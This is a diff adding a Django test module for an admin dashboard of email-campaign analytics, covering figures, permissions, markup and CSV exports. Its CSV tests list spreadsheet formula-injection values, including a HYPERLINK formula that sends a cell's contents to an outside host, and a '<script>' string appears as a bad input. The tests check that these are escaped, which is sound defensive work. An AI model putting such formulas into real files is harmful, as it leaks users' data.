@@ -1,0 +1,595 @@
+"""The dashboard: its numbers are the API's, its files are safe, its page is for those who may."""
+
+import csv
+import io
+import re
+from datetime import UTC, datetime, timedelta
+from html.parser import HTMLParser
+from uuid import UUID
+
+import pytest
+from django.contrib.admin import AdminSite
+from django.contrib.auth.models import Permission
+from django.test import Client, override_settings
+from django.urls import path
+
+from analytics.dashboard import MOST_CAMPAIGNS, DashboardAdmin, dashboard_url
+from analytics.models import Dashboard
+from apikeys import crypto
+from campaigns.models import Campaign, EventKind
+from campaigns.recording import Event, record_events
+from tests.factories import APIKeyFactory, CampaignFactory, WorkspaceFactory
+
+PAGE = "/admin/mailmetrics_analytics/dashboard/"
+API = "/api/public/v1/analytics/campaigns"
+
+own_site = AdminSite(name="office")
+own_site.register(Dashboard, DashboardAdmin)
+urlpatterns = [path("office/", own_site.urls)]
+
+pytestmark = pytest.mark.django_db
+
+
+class Page(HTMLParser):
+    """The figures, tables and errors of the page; its attributes and elements, for what they are
+    not."""
+
+    def __init__(self, html):
+        super().__init__()
+        self.tags, self.attributes, self.tables, self.texts = [], [], {}, {}
+        self.cell = self.table = None
+        self.feed(html)
+
+    def handle_starttag(self, tag, attrs):
+        attrs = dict(attrs)
+        self.tags.append((tag, attrs))
+        self.attributes += attrs
+        if tag == "table":
+            self.table = self.tables.setdefault(attrs.get("id"), [])
+        elif tag == "tr" and self.table is not None:
+            self.table.append([])
+        if tag in {"td", "th", "dt", "dd", "li", "h2", "p", "title"}:
+            self.cell = []
+
+    def handle_data(self, data):
+        if self.cell is not None:
+            self.cell.append(data)
+
+    def handle_endtag(self, tag):
+        if tag in {"td", "th"} and self.table:
+            self.table[-1].append(self._text())
+        elif tag == "table":
+            self.table = None
+        elif tag in {"dt", "dd", "li", "h2", "p", "title"} and self.cell is not None:
+            self.texts.setdefault(tag, []).append(self._text())
+
+    def _text(self):
+        text, self.cell = " ".join("".join(self.cell or []).split()), None
+        return text
+
+    @property
+    def errors(self):
+        """Those beside the fields; the admin's own lists are links."""
+        return [text for text in self.texts.get("li", []) if text.endswith((".", ")."))]
+
+    @property
+    def kpis(self):
+        return dict(zip(self.texts["dt"], self.texts["dd"], strict=True))
+
+
+@pytest.fixture
+def workspace():
+    return WorkspaceFactory(name="Acme & Söhne")
+
+
+@pytest.fixture
+def staff(django_user_model):
+    """Staff who may view campaigns and workspaces, and nothing else."""
+    user = django_user_model.objects.create_user("staff", password="x", is_staff=True)
+    user.user_permissions.set(
+        Permission.objects.filter(codename__in=["view_campaign", "view_workspace"])
+    )
+    return user
+
+
+@pytest.fixture
+def client(staff):
+    client = Client()
+    client.force_login(staff)
+    return client
+
+
+@pytest.fixture
+def show(client, workspace):
+    def ask(**parameters):
+        response = client.get(PAGE, {"workspace": workspace.pk, **parameters})
+        assert response.status_code == 200
+        return Page(response.content.decode())
+
+    return ask
+
+
+@pytest.fixture
+def api(workspace):
+    key = crypto.generate()
+    APIKeyFactory(workspace=workspace, key=key)
+    client = Client(headers={"X-API-Key": key})
+    return lambda url, **parameters: client.get(url, parameters).json()
+
+
+def record(campaign, day, **counts):
+    at = datetime.fromisoformat(day).replace(hour=12, tzinfo=UTC)
+    record_events(
+        workspace=campaign.workspace,
+        events=[
+            Event(campaign.pk, f"{campaign.pk}-{day}-{n}", EventKind[kind.upper()], at)
+            for kind, count in counts.items()
+            for n in range(count)
+        ],
+    )
+
+
+def launched(workspace, name, day, status="COMPLETED"):
+    at = datetime.fromisoformat(day).replace(tzinfo=UTC)
+    return CampaignFactory(
+        workspace=workspace,
+        name=name,
+        status=status,
+        total_leads=1500,
+        launched_at=at,
+        created_at=at - timedelta(days=1),
+    )
+
+
+@pytest.fixture
+def year(workspace):
+    """Mail of two campaigns, a draft, and another workspace's."""
+    first = launched(workspace, "Q1 <Outreach>", "2024-01-15")
+    second = launched(workspace, "Spring", "2024-03-01", "ACTIVE")
+    CampaignFactory(workspace=workspace, name="Draft", status="DRAFT")
+    record(first, "2024-01-15", sent=1120, opened=41, replied=9, bounced=1)
+    record(first, "2024-01-16", sent=85, opened=30, replied=7)
+    record(first, "2024-01-18", opened=5)
+    record(second, "2024-03-01", sent=3, opened=2, bounced=1)
+    record(second, "2024-03-03", sent=1, opened=4)
+    record(launched(WorkspaceFactory(), "Foreign", "2024-01-15"), "2024-01-15", sent=7, opened=7)
+
+
+def number(text):
+    return int(text.replace(",", ""))
+
+
+def rate(text):
+    return round(float(text.replace(",", "").removesuffix("%")) / 100, 4)
+
+
+def read_campaigns(page):
+    """The table's rows as the API tells them, but for the id and the time of day."""
+    names = ["total_leads", "total_sent", "total_opened", "total_replied", "total_bounced"]
+    rates = ["open_rate", "reply_rate", "bounce_rate"]
+    return [
+        {
+            "campaign_name": name,
+            "status": status.upper(),
+            "created_at": created,
+            **dict(zip(names, map(number, figures[:5]), strict=True)),
+            **dict(zip(rates, map(rate, figures[5:]), strict=True)),
+        }
+        for name, status, created, *figures in page.tables.get("mm-campaigns-table", [[]])[1:]
+    ]
+
+
+def read_timeline(page):
+    names = ["sent", "opened", "replied", "bounced"]
+    rates = ["open_rate", "reply_rate", "bounce_rate"]
+    return [
+        {
+            "date": day,
+            **dict(zip(names, map(number, figures[:4]), strict=True)),
+            **dict(zip(rates, map(rate, figures[4:]), strict=True)),
+        }
+        for day, *figures in page.tables["mm-timeline-table"][1:]
+    ]
+
+
+def read_kpis(page):
+    kpis = page.kpis
+    return {
+        "total_campaigns": number(kpis["Campaigns"]),
+        "total_sends": number(kpis["Sent"]),
+        "avg_open_rate": rate(kpis["Open rate"]),
+        "avg_reply_rate": rate(kpis["Reply rate"]),
+        "avg_bounce_rate": rate(kpis["Bounce rate"]),
+    }
+
+
+CHOICES = [
+    {},
+    {"status": "COMPLETED"},
+    {"from_date": "2024-01-01", "to_date": "2024-03-31"},
+    {"from_date": "2024-01-16", "to_date": "2024-03-31", "status": "ACTIVE"},
+    {"to_date": "2024-01-20"},
+    {"from_date": "2024-01-15", "to_date": "2024-01-15"},
+    {"from_date": "2015-01-01", "to_date": "2024-12-31"},
+    {"from_date": "1999-01-01", "to_date": "1999-03-31"},
+]
+
+
+@pytest.mark.usefixtures("year")
+class TestFigures:
+    @pytest.mark.parametrize("choice", CHOICES)
+    def test_they_are_those_of_the_api(self, show, api, choice):
+        page = show(**choice)
+        expected = api(API, **choice)
+        for row in expected["campaigns"]:
+            del row["campaign_id"]
+            row["created_at"] = row["created_at"][:10]
+        assert read_kpis(page) == expected["workspace_kpis"]
+        assert read_campaigns(page) == expected["campaigns"]
+        window = {name: day for name, day in choice.items() if name != "status"}
+        assert read_timeline(page) == api(f"{API}/timeline", **window)["timeline"]
+
+    def test_a_form_sends_empty_fields(self, show):
+        empty = show(status="", from_date="", to_date="")
+        assert empty.tables == show().tables
+        assert empty.kpis == show().kpis
+
+    def test_the_page_says_what_the_dates_mean(self, show):
+        page = show(status="COMPLETED", from_date="2024-01-01", to_date="2024-03-31")
+        of_campaigns = (
+            "The COMPLETED campaigns launched from 2024-01-01 to 2024-03-31 (UTC), "
+            "each with all of its mail to date."
+        )
+        assert page.texts["p"].count(of_campaigns) == 2
+        assert [text for text in page.texts["p"] if text.startswith("Activity")] == [
+            "Activity from 2024-01-01 to 2024-03-31 (91 UTC days) in all campaigns, whatever their "
+            "status and launch day. An open counts on the day it happened, so a rate may exceed "
+            "100%; where nothing was sent there is none to draw."
+        ]
+
+    @pytest.mark.parametrize(
+        ("choice", "text"),
+        [
+            ({}, "All campaigns, launched or not,"),
+            ({"from_date": "2024-01-01"}, "All campaigns launched on 2024-01-01 (UTC) or later,"),
+            ({"to_date": "2024-01-01"}, "All campaigns launched on 2024-01-01 (UTC) or earlier,"),
+        ],
+    )
+    def test_the_page_says_which_campaigns_it_has(self, show, choice, text):
+        assert show(**choice).texts["p"].count(f"{text} each with all of its mail to date.") == 2
+
+    def test_the_first_workspace_is_shown_unless_one_is_chosen(self, client, workspace):
+        WorkspaceFactory(name="Aardvark")
+        assert "Aardvark" in Page(client.get(PAGE).content.decode()).texts["h2"]
+        chosen = Page(client.get(PAGE, {"workspace": workspace.pk}).content.decode())
+        assert "Acme & Söhne" in chosen.texts["h2"]
+        selected = [attrs for tag, attrs in chosen.tags if tag == "option" and "selected" in attrs]
+        assert [attrs["value"] for attrs in selected] == [str(workspace.pk), ""]
+
+    @override_settings(
+        LANGUAGE_CODE="de",
+        USE_THOUSAND_SEPARATOR=True,
+        MAILMETRICS={"MAX_TIMELINE_DAYS": 20_000},
+    )
+    def test_numbers_are_in_the_readers_language_and_the_drawing_is_not(self, client, workspace):
+        window = {"from_date": "1983-01-01", "to_date": "2024-12-31"}
+        html = client.get(PAGE, {"workspace": workspace.pk, **window}).content.decode()
+        kpis = html[html.index("<dl") : html.index("</dl>")]
+        assert "<dd>1.209</dd>" in kpis
+        assert "<dd>6,78%</dd>" in kpis
+        assert 'viewBox="0 0 1008 240"' in html
+        assert '<rect class="mm-slot" x="1006" width="2" height="240">' in html
+        assert not re.search(r'(x|y|y1|y2|width|height|d)="[^"]*\d,\d', html)
+
+    def test_more_campaigns_than_the_page_shows_are_told_of(self, show, client, workspace):
+        Campaign.objects.bulk_create(
+            Campaign(workspace=workspace, name=f"No. {n}") for n in range(MOST_CAMPAIGNS)
+        )
+        page = show()
+        assert len(read_campaigns(page)) == MOST_CAMPAIGNS
+        assert page.kpis["Campaigns"] == str(MOST_CAMPAIGNS + 3)
+        assert any(f"newest {MOST_CAMPAIGNS} of 503 are shown" in text for text in page.texts["p"])
+        answer = client.get(f"{PAGE}campaigns.csv", {"workspace": workspace.pk})
+        assert len(list(answer)) == MOST_CAMPAIGNS + 4
+
+
+class TestNothingToShow:
+    def test_an_empty_workspace(self, show, workspace):
+        page = show()
+        assert page.kpis == {
+            "Campaigns": "0",
+            "Sent": "0",
+            "Open rate": "0.00%",
+            "Reply rate": "0.00%",
+            "Bounce rate": "0.00%",
+        }
+        assert len(read_timeline(page)) == 90
+        assert "There is no such campaign." in page.texts["p"]
+        assert "Nothing happened in this time." in page.texts["p"]
+
+    def test_no_workspace(self, client):
+        page = Page(client.get(PAGE).content.decode())
+        assert "There is no workspace yet." in page.texts["p"]
+        assert page.tables.get("mm-timeline-table") is None
+        answer = client.get(f"{PAGE}timeline.csv")
+        assert (answer.status_code, answer.content) == (400, b"workspace: There is none.\n")
+
+
+BAD_CHOICES = [
+    {"status": "nope"},
+    {"from_date": "2024-02-31"},
+    {"to_date": "20240101"},
+    {"from_date": "2024-02-02", "to_date": "2024-02-01"},
+    {"from_date": "2000-01-01", "to_date": "2024-02-01"},
+    {"from_date": "9999-01-01"},
+    {"to_date": "0001-01-02"},
+    {"from_date": ["2024-01-01", "2024-01-02"]},
+    {"status": "<script>", "from_date": "x", "to_date": "y"},
+]
+
+
+class TestBadChoices:
+    @pytest.mark.parametrize("choice", BAD_CHOICES)
+    def test_the_apis_words_beside_the_field_and_no_numbers(self, show, api, choice):
+        window = {name: days for name, days in choice.items() if name != "status"}
+        expected = {**api(f"{API}/timeline", **window), **api(API, **choice)}
+        expected = {name: errors for name, errors in expected.items() if name in choice}
+        page = show(**choice)
+        assert expected
+        told = [
+            expected[name][0] for name in ("status", "from_date", "to_date") if name in expected
+        ]
+        assert page.errors == told
+        assert "dd" not in page.texts
+        assert page.tables.get("mm-timeline-table") is None
+
+    @pytest.mark.parametrize("key", ["0", "x", "1.0", "-1", "9" * 40, "\x00"])
+    def test_a_workspace_that_is_none(self, show, key):
+        page = show(workspace=key)
+        assert page.errors == [f"{key!r:.60} is not a workspace."]
+        assert "dd" not in page.texts
+
+    def test_a_parameter_that_there_is_not(self, show):
+        assert show(page="2").texts["p"] == [
+            "There are no numbers for this choice. "
+            "page: No such parameter; there are workspace, status, from_date, to_date."
+        ]
+
+    def test_what_is_no_date_is_not_put_into_a_date_field(self, show):
+        page = show(from_date="2024-02-31", to_date="2024-02-28")
+        fields = {attrs.get("name"): attrs for tag, attrs in page.tags if tag == "input"}
+        assert "value" not in fields["from_date"]
+        assert fields["to_date"]["value"] == "2024-02-28"
+
+    @pytest.mark.parametrize("file", ["campaigns.csv", "timeline.csv"])
+    def test_a_file_is_refused(self, client, workspace, file):
+        answer = client.get(PAGE + file, {"workspace": workspace.pk, "from_date": "x"})
+        assert answer.status_code == 400
+        assert answer["Content-Type"] == "text/plain; charset=utf-8"
+        assert answer.content.decode() == "from_date: 'x' is not a date (YYYY-MM-DD).\n"
+
+
+URLS = [PAGE, f"{PAGE}campaigns.csv", f"{PAGE}timeline.csv"]
+
+
+class TestWhoMaySee:
+    @pytest.mark.parametrize("url", URLS)
+    @pytest.mark.parametrize(
+        ("permissions", "status"),
+        [
+            ("view_campaign view_workspace", 200),
+            ("change_campaign change_workspace", 200),
+            ("view_campaign", 403),
+            ("view_workspace", 403),
+            ("", 403),
+        ],
+    )
+    @pytest.mark.usefixtures("workspace")
+    def test_staff_who_may_view_both(self, client, staff, url, permissions, status):
+        staff.user_permissions.set(Permission.objects.filter(codename__in=permissions.split()))
+        assert client.get(url).status_code == status
+        assert (PAGE in client.get("/admin/").content.decode()) == (status == 200)
+
+    @pytest.mark.parametrize("url", URLS)
+    def test_others_are_sent_to_log_in(self, django_user_model, url):
+        user = django_user_model.objects.create_user("customer", is_superuser=True)
+        client = Client()
+        for _ in range(2):
+            answer = client.get(url)
+            assert (answer.status_code, answer["Location"]) == (302, f"/admin/login/?next={url}")
+            client.force_login(user)
+
+    @pytest.mark.parametrize("url", URLS)
+    def test_get_and_head_alone(self, client, workspace, url):
+        assert client.head(url).status_code == 200
+        for method in ("post", "put", "patch", "delete"):
+            assert getattr(client, method)(url).status_code == 405
+
+    @pytest.mark.parametrize("url", URLS)
+    def test_no_cache_keeps_it(self, client, workspace, url):
+        assert "no-store" in client.get(url)["Cache-Control"]
+
+    @pytest.mark.parametrize("campaigns", [0, 30])
+    def test_a_fixed_number_of_queries(self, show, workspace, campaigns, django_assert_num_queries):
+        for n in range(campaigns):
+            record(launched(workspace, f"No. {n}", "2024-01-15"), "2024-01-16", sent=2, opened=1)
+        # The session, the user, two for the permissions, the workspaces, and one for each report.
+        with django_assert_num_queries(7):
+            show(from_date="2024-01-01", to_date="2024-02-01")
+
+
+class TestAdminSites:
+    def test_it_is_reached_from_the_index(self, client):
+        html = client.get("/admin/").content.decode()
+        assert f'<a href="{PAGE}">Dashboard</a>' in html
+        assert f"{PAGE}add/" not in html
+
+    @override_settings(ROOT_URLCONF=__name__)
+    def test_a_site_of_the_hosts_own(self, client, workspace):
+        url = dashboard_url(site=own_site, workspace_id=workspace.pk)
+        assert url == f"/office/mailmetrics_analytics/dashboard/?workspace={workspace.pk}"
+        html = client.get(url).content.decode()
+        assert 'href="/admin/' not in html
+        assert (
+            f"/office/mailmetrics_analytics/dashboard/timeline.csv?workspace={workspace.pk}" in html
+        )
+
+    def test_a_hosts_subclass_offers_fewer_workspaces(self, rf, staff, workspace):
+        WorkspaceFactory(name="Hidden")
+
+        class Own(DashboardAdmin):
+            def get_queryset(self, request):
+                return super().get_queryset(request).exclude(name="Hidden")
+
+        request = rf.get("/")
+        request.user = staff
+        answer = Own(Dashboard, own_site).changelist_view(request)
+        assert answer.context_data["asked"].workspaces == {workspace.pk: "Acme & Söhne"}
+
+    def test_it_has_no_permission_of_its_own(self):
+        assert not Permission.objects.filter(content_type__model="dashboard").exists()
+
+
+@pytest.mark.usefixtures("year")
+class TestMarkup:
+    @pytest.mark.parametrize("choice", CHOICES)
+    def test_nothing_is_inline(self, show, choice):
+        page = show(**choice)
+        assert "style" not in {tag for tag, _ in page.tags}
+        assert not [name for name in page.attributes if name == "style" or name.startswith("on")]
+        assert all(attrs.get("src") for tag, attrs in page.tags if tag == "script")
+
+    def test_ids_are_unique_and_references_lead_to_them(self, show):
+        attributes = [attrs for _, attrs in show().tags]
+        ids = [attrs["id"] for attrs in attributes if "id" in attrs]
+        assert len(ids) == len(set(ids))
+        for attrs in attributes:
+            for name in ("aria-labelledby", "aria-describedby", "for"):
+                assert set(attrs.get(name, "").split()) <= set(ids)
+
+    def test_each_point_has_a_title(self, show):
+        page = show(from_date="2024-01-15", to_date="2024-01-16")
+        titles = page.texts["title"][1:]
+        days = [
+            "Mon 15 Jan 2024 1,120 sent 41 opened (3.66%) 9 replied (0.80%) 1 bounced (0.09%)",
+            "Tue 16 Jan 2024 85 sent 30 opened (35.29%) 7 replied (8.24%) 0 bounced (0.00%)",
+        ]
+        assert titles == ["Messages by day", *days, "Rates by day", *days]
+
+    def test_ten_years_are_one_light_page(self, show):
+        page = show(from_date="2015-01-01", to_date="2024-12-31")
+        assert len(page.texts["title"]) == 1 + 2 * (1 + 120)
+        assert len(read_timeline(page)) == 3653
+        assert any(
+            "A point of the charts is one month; the table" in text for text in page.texts["p"]
+        )
+
+
+def content(response):
+    assert response.streaming
+    return b"".join(response.streaming_content)
+
+
+class TestFiles:
+    def test_the_campaigns(self, client, workspace):
+        campaign = CampaignFactory(
+            id=UUID("550e8400-e29b-41d4-a716-446655440000"),
+            workspace=workspace,
+            name='Été, "Q1"',
+            status="COMPLETED",
+            total_leads=1500,
+            launched_at=datetime(2024, 1, 15, tzinfo=UTC),
+            created_at=datetime(2024, 1, 15, 10, tzinfo=UTC),
+        )
+        record(campaign, "2024-01-16", sent=1120, opened=41, replied=9, bounced=1)
+        with override_settings(LANGUAGE_CODE="de", USE_THOUSAND_SEPARATOR=True):
+            answer = client.get(f"{PAGE}campaigns.csv", {"status": "COMPLETED"})
+        assert answer["Content-Type"] == "text/csv; charset=utf-8"
+        assert answer["Content-Disposition"] == 'attachment; filename="acme-sohne-campaigns.csv"'
+        assert content(answer).decode() == (
+            '\ufeff"campaign_name","status","total_leads","total_sent","total_opened",'
+            '"total_replied","total_bounced","open_rate","reply_rate","bounce_rate","created_at",'
+            '"campaign_id"\r\n'
+            '"Été, ""Q1""","COMPLETED",1500,1120,41,9,1,0.0366,0.008,0.0009,'
+            '"2024-01-15T10:00:00Z","550e8400-e29b-41d4-a716-446655440000"\r\n'
+        )
+
+    @pytest.mark.usefixtures("year")
+    def test_the_timeline(self, client, workspace):
+        answer = client.get(
+            f"{PAGE}timeline.csv",
+            {
+                "workspace": workspace.pk,
+                "status": "DRAFT",
+                "from_date": "2024-01-15",
+                "to_date": "2024-01-18",
+            },
+        )
+        assert answer["Content-Type"] == "text/csv; charset=utf-8"
+        assert answer["Content-Disposition"] == (
+            'attachment; filename="acme-sohne-timeline-2024-01-15-2024-01-18.csv"'
+        )
+        assert content(answer).decode() == (
+            '\ufeff"date","sent","opened","replied","bounced",'
+            '"open_rate","reply_rate","bounce_rate"\r\n'
+            '"2024-01-15",1120,41,9,1,0.0366,0.008,0.0009\r\n'
+            '"2024-01-16",85,30,7,0,0.3529,0.0824,0.0\r\n'
+            '"2024-01-17",0,0,0,0,0.0,0.0,0.0\r\n'
+            '"2024-01-18",0,5,0,0,0.0,0.0,0.0\r\n'
+        )
+
+    @pytest.mark.usefixtures("year")
+    @pytest.mark.parametrize("choice", CHOICES)
+    def test_the_links_lead_to_what_the_page_shows(self, show, client, api, choice):
+        page = show(**choice)
+        links = [attrs["href"] for tag, attrs in page.tags if ".csv" in attrs.get("href", "")]
+        timeline, campaigns = (
+            list(csv.DictReader(io.StringIO(content(client.get(link)).decode("utf-8-sig"))))
+            for link in links
+        )
+        expected = api(API, **choice)["campaigns"]
+        assert campaigns == [{key: str(row[key]) for key in row} for row in expected]
+        assert [day["date"] for day in timeline] == [day["date"] for day in read_timeline(page)]
+        assert [int(day["sent"]) for day in timeline] == [
+            day["sent"] for day in read_timeline(page)
+        ]
+
+    @pytest.mark.parametrize(
+        "name",
+        [
+            '=HYPERLINK("http://example.com/?"&A2,"click")',
+            "+1",
+            "-1",
+            "@SUM(A1)",
+            "\t=1",
+            "\r=1",
+            "\n=1",
+            "\uff1d1",
+            "\uff0b1",
+            "\uff0d1",
+            "\uff201",
+        ],
+    )
+    def test_a_name_that_would_be_a_formula_is_text(self, client, workspace, name):
+        CampaignFactory(workspace=workspace, name=name)
+        text = content(client.get(f"{PAGE}campaigns.csv")).decode()
+        assert text.partition("\r\n")[2].startswith("\"'" + name.replace('"', '""') + '",')
+
+    @pytest.mark.parametrize("name", ["Q1 = Q2", "a\r\n=1", "x;=1", 'x";=1', "'=1", " =1"])
+    def test_any_other_name_is_as_it_is(self, client, workspace, name):
+        CampaignFactory(workspace=workspace, name=name)
+        text = content(client.get(f"{PAGE}campaigns.csv")).decode()
+        # First in its line and quoted, it is one cell also where semicolons part the cells.
+        assert text.partition("\r\n")[2].startswith('"' + name.replace('"', '""') + '",')
+        for delimiter in ",;\t":
+            rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
+            assert len(rows) == 2
+            assert rows[1][0].startswith(name)
+
+    def test_a_workspace_without_latin_letters_has_a_file_name(self, client, workspace):
+        workspace.name = "株式会社"
+        workspace.save()
+        answer = client.get(f"{PAGE}campaigns.csv")
+        assert answer["Content-Disposition"] == (
+            f'attachment; filename="workspace-{workspace.pk}-campaigns.csv"'
+        )
